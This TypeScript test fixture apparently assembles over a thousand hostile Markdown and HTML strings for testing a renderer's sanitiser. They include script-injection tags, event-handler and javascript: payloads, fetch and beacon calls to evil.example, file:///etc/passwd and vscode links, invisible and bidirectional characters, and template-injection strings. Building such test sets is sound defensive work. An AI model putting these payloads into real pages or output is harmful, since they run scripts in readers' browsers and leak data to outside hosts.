import { naughtyStrings } from "./naughtyStrings";

/** What must not happen when the text is shown: `hit()` sets a mark, the address would be asked for. */
const calls = ["alert(1)", "window.__hit=1", "fetch('https://evil.example/x')"];
const address = "https://evil.example/beacon";

const tags = [
  "<script>CALL</script>",
  "<SCRIPT SRC=ADDR></SCRIPT>",
  "<img src=x onerror=CALL>",
  "<img src=ADDR srcset='ADDR 2x'>",
  "<svg onload=CALL></svg>",
  "<svg><script>CALL</script></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CALL</script></svg>#x'/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=CALL>",
  "<iframe src=javascript:CALL></iframe>",
  "<iframe srcdoc='<script>CALL</script>'></iframe>",
  "<object data=ADDR></object>",
  "<embed src=ADDR>",
  "<video poster=ADDR autoplay><source src=ADDR onerror=CALL></video>",
  "<audio src=ADDR autoplay onerror=CALL>",
  "<link rel=prefetch href=ADDR>",
  "<link rel=stylesheet href=ADDR>",
  "<style>@import 'ADDR'; body{background:url(ADDR)}</style>",
  "<div style=\"background:url('ADDR')\">x</div>",
  "<base href=ADDR>",
  "<meta http-equiv=refresh content='0;url=ADDR'>",
  "<form action=ADDR><button autofocus onfocus=CALL>x</button></form>",
  "<body onload=CALL>",
  "<details open ontoggle=CALL>x</details>",
  "<input autofocus onfocus=CALL>",
  "<a href='javascript:CALL' autofocus onfocus=CALL>x</a>",
  "<marquee onstart=CALL>x</marquee>",
  "<x contenteditable autofocus onfocus=CALL>x",
  "<template><script>CALL</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<!--><script>CALL</script-->",
  "<![CDATA[<script>CALL</script>]]>",
  "</textarea><script>CALL</script>",
  "<title><a title='</title><img src=x onerror=CALL>'>",
];

const schemes = [
  "javascript:CALL",
  "JaVaScRiPt:CALL",
  "java\tscript:CALL",
  "&#106;avascript:CALL",
  "\u0001javascript:CALL",
  " javascript:CALL",
  "data:text/html,<script>CALL</script>",
  "vbscript:CALL",
  "command:workbench.action.reloadWindow",
  "vscode://file/etc/passwd",
  "vscode-resource:/etc/passwd",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "//evil.example/beacon",
  "/\\evil.example/beacon",
  "http:evil.example",
  "https:\\\\evil.example\\x",
  "https://user:pass@evil.example/",
];

const links = [
  "[x](URL)",
  "[x](<URL>)",
  "![x](URL)",
  '![x](<URL> "title\' onerror=CALL")',
  "<URL>",
  "[x][r]\n\n[r]: URL",
  "![x][r]\n\n[r]: <URL>",
  "[![x](URL)](URL)",
  '[x](URL "onmouseover=CALL")',
];

const shapes = [
  "\u202e<script>CALL</script>\u202c",
  "\u200b\u2066x\u2069\u{e0041}\u{e0042}\ufeff",
  "```<script>\nCALL\n```",
  '```"><img/src=x/onerror=CALL>\n</code></pre><script>CALL</script>\n```',
  "`<img src=x onerror=CALL>`",
  "| <img src=x onerror=CALL> | b |\n| --- | --- |\n| <script>CALL</script> | ![x](ADDR) |",
  "- [ ] <img src=x onerror=CALL>\n  <script>CALL</script>",
  "> <svg onload=CALL>\n\n# <script>CALL</script>",
  "[^1]\n\n[^1]: <img src=x onerror=CALL> ![x](ADDR)",
  "\u0000\u001b[31m\u001b]8;;ADDR\u0007x\u001b]8;;\u0007\ud800",
  "__proto__ constructor [__proto__] [constructor]\n\n[__proto__]: ADDR",
  "```__proto__\nx\n```\n\n```constructor\nx\n```",
  "{{constructor.constructor('CALL')()}} ${CALL} <%= CALL %>",
  "www.evil.example/beacon https://evil.example/beacon evil@evil.example",
];

/** Characters that are not seen: directions, zero widths, tags, controls, fillers, halves of characters. */
const unseen = [
  ...Array.from("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
  ...Array.from("\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e\u3164\uffa0\u115f\u1160"),
  ...Array.from("\u{e0001}\u{e0041}\u{e007f}\u2028\u2029\u0000\u0007\u0008\u001b\u007f\u0085\u009f"),
  "\ud800",
  "\udfff",
];

const unseenPlaces = [
  "before XCALLX after",
  "`codeXCALL`",
  "[labelX](https://evil.example/X)",
  "# X<script>CALL</script>",
  "```jsX\nX<img src=x onerror=CALL>\n```",
  "| X | b |\n| - | - |\n| javascript:XCALL | X |",
];

/** Over 1,000 texts that try to run a script, load something, lead somewhere or deceive when shown as Markdown. */
export const hostileMarkdown: readonly string[] = [
  // The "big list of naughty strings": what breaks programs that read, store or show text.
  ...naughtyStrings.filter((text) => text !== ""),
  ...unseen.flatMap((char) => unseenPlaces.map((place) => fill(place.replaceAll("X", char), calls[0] ?? ""))),
  ...calls.flatMap((call) => [...tags, ...shapes].map((text) => fill(text, call))),
  ...calls.flatMap((call) => tags.map((text) => fill(`text *before ${text} after* text`, call))),
  ...schemes.flatMap((scheme) => links.map((link) => fill(link.replaceAll("URL", scheme), calls[0] ?? ""))),
];

function fill(text: string, call: string): string {
  return text.replaceAll("CALL", call).replaceAll("ADDR", address);
}
